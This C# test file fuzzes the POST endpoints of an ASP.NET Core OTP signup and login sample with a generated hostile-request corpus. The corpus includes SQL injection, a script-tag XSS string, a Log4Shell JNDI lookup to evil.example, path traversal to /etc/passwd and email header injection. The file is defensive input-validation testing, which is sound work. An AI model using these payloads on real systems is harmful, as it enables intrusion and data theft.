using System.Text;
using System.Text.Encodings.Web;
using System.Text.Json;
using OtpVerification.AspNetCore.Tests.Hosting;

namespace OtpVerification.AspNetCore.Tests.Security;

/// <summary>
/// SECURITY.md, "Hostile input": a corpus of several hundred hostile requests, generated
/// combinatorially over every POST endpoint and every field (malformed JSON, wrong JSON types,
/// 60 KiB strings, bodies just over 64 KiB, 1000-deep nesting, control characters and NUL,
/// Unicode look-alike addresses, SQL and script strings, wrong or missing content types, empty,
/// array, number and null bodies). Every answer must be a problem+json 4xx with a <c>code</c>;
/// none a 5xx. <c>Requests/MalformedRequestTests</c> pins the exact answer of single cases; this
/// is the broad sweep. Every request is built to be invalid (hostile text goes where it is not
/// acceptable, or with an otherwise incomplete body), so any 2xx is a finding too.
/// </summary>
public sealed class HostileInputTests(SampleAppFactory app) : IClassFixture<SampleAppFactory>
{
    private const string Json = "application/json";
    private const int MaxBody = 64 * 1024;

    /// <summary>Each endpoint with a valid body: field name to JSON value.</summary>
    private static readonly Dictionary<string, Dictionary<string, string>> ValidBodies = new(StringComparer.Ordinal)
    {
        ["/signup/start"] = new(StringComparer.Ordinal) { ["email"] = "\"hostile@example.com\"", ["password"] = "\"S3cure-Passw0rd!\"", ["name"] = "\"Ana\"", ["phone"] = "\"+14155550123\"", ["channel"] = "\"email\"", ["deviceId"] = "\"device-1\"" },
        ["/signup/resend"] = new(StringComparer.Ordinal) { ["email"] = "\"hostile@example.com\"" },
        ["/signup/verify"] = new(StringComparer.Ordinal) { ["email"] = "\"hostile@example.com\"", ["code"] = "\"123456\"", ["flowId"] = "\"AAAAAAAAAAAAAAAAAAAAAA\"", ["deviceId"] = "\"device-1\"" },
        ["/password-reset/start"] = new(StringComparer.Ordinal) { ["email"] = "\"hostile@example.com\"" },
        ["/password-reset/complete"] = new(StringComparer.Ordinal) { ["email"] = "\"hostile@example.com\"", ["code"] = "\"123456\"", ["flowId"] = "\"AAAAAAAAAAAAAAAAAAAAAA\"", ["newPassword"] = "\"N3w-Passw0rd!\"" },
        ["/login"] = new(StringComparer.Ordinal) { ["email"] = "\"hostile@example.com\"", ["password"] = "\"S3cure-Passw0rd!\"" },
    };

    /// <summary>
    /// Fields where hostile text makes the request invalid on its own: addresses, codes, the
    /// channel (free text such as a name or a password is legitimately accepted and stored).
    /// Verify and complete have no pending registration for the corpus address, so any code or
    /// device id there is refused as well; so is any login password.
    /// </summary>
    private static readonly (string Endpoint, string Field)[] StrictFields =
    [
        ("/signup/start", "email"), ("/signup/start", "phone"), ("/signup/start", "channel"),
        ("/signup/resend", "email"),
        ("/signup/verify", "email"), ("/signup/verify", "code"), ("/signup/verify", "flowId"), ("/signup/verify", "deviceId"),
        ("/password-reset/start", "email"),
        ("/password-reset/complete", "email"), ("/password-reset/complete", "code"), ("/password-reset/complete", "flowId"), ("/password-reset/complete", "newPassword"),
        ("/login", "email"), ("/login", "password"),
    ];

    [Fact]
    public void Corpus_HasAtLeast200HostileRequestsAcrossAllPostEndpoints()
    {
        var corpus = Corpus().ToList();

        corpus.Should().HaveCountGreaterThanOrEqualTo(200);
        corpus.Select(c => c.Endpoint).Distinct().Should().BeEquivalentTo(ValidBodies.Keys);
    }

    [Fact]
    public async Task Post_HostileCorpus_AnswersEveryRequestWithAProblemJson4xxAndACode()
    {
        var client = app.CreateClient();
        var failures = new List<string>();
        foreach (var hostile in Corpus())
        {
            using var response = await client.PostRawAsync(hostile.Endpoint, hostile.Body, hostile.ContentType, hostile.Chunked);
            var status = (int)response.StatusCode;
            var body = await response.Content.ReadAsStringAsync();
            var problem = Judge(response, status, body, hostile.ExpectedStatus);
            if (problem is not null)
            {
                failures.Add($"{hostile.Endpoint} [{hostile.Name}] → {status} {response.Content.Headers.ContentType}: {problem}; body {Shorten(body)}");
            }
        }

        failures.Should().BeEmpty("every hostile request must get a problem+json 4xx with a code, but {0} did not:\n{1}", failures.Count, string.Join('\n', failures));
    }

    private static string? Judge(HttpResponseMessage response, int status, string body, int? expectedStatus)
    {
        if (status is < 400 or > 499)
        {
            return "not a 4xx";
        }

        if (expectedStatus is { } expected && status != expected)
        {
            return $"expected {expected}";
        }

        if (response.Content.Headers.ContentType?.MediaType != "application/problem+json")
        {
            return "not application/problem+json";
        }

        try
        {
            using var json = JsonDocument.Parse(body);
            var root = json.RootElement;
            if (root.ValueKind != JsonValueKind.Object || !root.TryGetProperty("code", out var code) || code.ValueKind != JsonValueKind.String || string.IsNullOrEmpty(code.GetString()))
            {
                return "no string code";
            }

            return root.TryGetProperty("status", out var s) && s.ValueKind == JsonValueKind.Number && s.GetInt32() == status ? null : "status member missing or different";
        }
        catch (JsonException)
        {
            return "body is not JSON";
        }
    }

    private static string Shorten(string text) => text.Length <= 300 ? text : text[..300] + "…";

    /// <summary>The corpus, generated; deterministic.</summary>
    private static IEnumerable<Hostile> Corpus()
    {
        foreach (var (endpoint, fields) in ValidBodies)
        {
            // Malformed JSON.
            string[] malformed =
            [
                "{", "}", "{\"email\": }", "{\"email\": \"a@example.com\",}", "{'email': 'a@example.com'}", "{\"email\": \"unterminated",
                "{\"email\" \"a@example.com\"}", "}{", "{\"email\": \"a@example.com\"} trailing", "{\"email\": NaN}", "/* comment */ {\"email\": \"a@example.com\"}",
                "{\"email\": \"\\uZZZZ\"}", "{\"email\": \"a@example.com\" \"password\": \"x\"}", "\u0000", "{\"email\": 01}",
            ];
            foreach (var text in malformed)
            {
                yield return new Hostile(endpoint, "malformed " + Printable(text), Utf8(text), Json);
            }

            // Whole bodies of the wrong kind.
            foreach (var text in new[] { "[]", "[{\"email\": \"a@example.com\"}]", "5", "-1.5e308", "true", "null", "\"a@example.com\"", "{}", " ", "\n\t" })
            {
                yield return new Hostile(endpoint, "body " + Printable(text), Utf8(text), Json);
            }

            yield return new Hostile(endpoint, "empty body", [], Json);

            // Wrong or missing content types for a valid body.
            var valid = Utf8(Body(fields));
            foreach (var type in new string?[] { null, "text/plain", "application/xml", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x", "application/jsonp", "text/json-but-not" })
            {
                yield return new Hostile(endpoint, "content type " + (type ?? "(none)"), valid, type);
            }

            yield return new Hostile(endpoint, "UTF-16 body", Encoding.Unicode.GetBytes(Body(fields)), "application/json; charset=utf-16");
            yield return new Hostile(endpoint, "invalid UTF-8 in a string", [.. Utf8("{\"email\": \"a"), 0xFF, 0xFE, .. Utf8("@example.com\"}")], Json);

            // Just over 64 KiB, with and without a Content-Length.
            var over = Utf8(PaddedBody(fields, MaxBody + 1));
            yield return new Hostile(endpoint, "64 KiB + 1 byte", over, Json, ExpectedStatus: 413);
            yield return new Hostile(endpoint, "64 KiB + 1 byte, chunked", over, Json, Chunked: true, ExpectedStatus: 413);

            // 1000 levels of nesting.
            yield return new Hostile(endpoint, "1000 nested arrays", Utf8(new string('[', 1000) + new string(']', 1000)), Json);
            yield return new Hostile(endpoint, "1000 nested objects", Utf8(string.Concat(Enumerable.Repeat("{\"a\":", 1000)) + "1" + new string('}', 1000)), Json);
            yield return new Hostile(endpoint, "1000 nested arrays in a field", Utf8(Body(fields, ("nested", new string('[', 1000) + new string(']', 1000)))), Json);

            // Every field: wrong JSON types, and a 60 KiB string.
            foreach (var field in fields.Keys)
            {
                foreach (var wrong in new[] { "5", "1.5", "true", "{}", "[]", "[\"a@example.com\"]", "{\"a\": \"b\"}" })
                {
                    yield return new Hostile(endpoint, $"{field} = {wrong}", Utf8(Body(fields, (field, wrong))), Json);
                }

                if (field != "password" || endpoint != "/login")
                {
                    yield return new Hostile(endpoint, $"{field} = 60 KiB string", Utf8(Body(fields, (field, Quote(new string('a', 60 * 1024))))), Json);
                }
            }
        }

        // Hostile text where it is not acceptable: control characters, look-alikes, injection.
        string[] hostileText =
        [
            "ana\u0000@example.com", "ana@example.com\u0000", "\u0007ana@example.com", "ana@example.com\r\nBcc: evil@example.com", "\u001b[31mana@example.com",
            "\u0430na@example.com", "ana@ex\u0430mple.com", "ana\uFF20example.com", "ana\u202E@example.com", "ana\u200B@example.com", "ana\u0301@example.com",
            "' OR '1'='1", "a@example.com'; DROP TABLE AspNetUsers;--", "<script>alert(1)</script>@example.com", "${jndi:ldap://evil.example/a}", "../../etc/passwd",
            "\uFF11\uFF12\uFF13\uFF14\uFF15\uFF16",
        ];
        foreach (var (endpoint, field) in StrictFields)
        {
            foreach (var text in hostileText)
            {
                yield return new Hostile(endpoint, $"{field} = {Printable(text)}", Utf8(Body(ValidBodies[endpoint], (field, Quote(text, raw: true)))), Json);
            }
        }

        // Look-alike addresses sent as escaped JSON too (\u0430 rather than the raw character).
        foreach (var endpoint in ValidBodies.Keys)
        {
            foreach (var text in new[] { "\u0430na@example.com", "ana\uFF20example.com", "ana\u202E@example.com" })
            {
                yield return new Hostile(endpoint, $"email = escaped {Printable(text)}", Utf8(Body(ValidBodies[endpoint], ("email", Quote(text)))), Json);
            }
        }
    }

    private static string Body(Dictionary<string, string> fields, params (string Field, string Json)[] overrides)
    {
        var merged = new Dictionary<string, string>(fields, StringComparer.Ordinal);
        foreach (var (field, json) in overrides)
        {
            merged[field] = json;
        }

        return "{" + string.Join(", ", merged.Select(f => $"\"{f.Key}\": {f.Value}")) + "}";
    }

    private static string PaddedBody(Dictionary<string, string> fields, int bytes)
    {
        var body = Body(fields, ("padding", "\"\""));
        return body.Insert(body.Length - 2, new string('a', bytes - Encoding.UTF8.GetByteCount(body)));
    }

    private static string Quote(string text, bool raw = false)
        => JsonSerializer.Serialize(text, raw ? new JsonSerializerOptions { Encoder = JavaScriptEncoder.UnsafeRelaxedJsonEscaping } : JsonSerializerOptions.Default);

    private static byte[] Utf8(string text) => Encoding.UTF8.GetBytes(text);

    private static string Printable(string text)
    {
        var printable = new StringBuilder();
        foreach (var c in text.Length > 40 ? text[..40] : text)
        {
            printable.Append(c is < ' ' or > '~' ? $"\\u{(int)c:X4}" : c.ToString());
        }

        return printable.ToString();
    }

    /// <summary>One hostile request.</summary>
    /// <param name="Endpoint">The path.</param>
    /// <param name="Name">What is hostile about it.</param>
    /// <param name="Body">The body bytes.</param>
    /// <param name="ContentType">The Content-Type, or null for none.</param>
    /// <param name="Chunked">Sent without a Content-Length.</param>
    /// <param name="ExpectedStatus">The one acceptable status, when there is one.</param>
    private sealed record Hostile(string Endpoint, string Name, byte[] Body, string? ContentType, bool Chunked = false, int? ExpectedStatus = null);
}
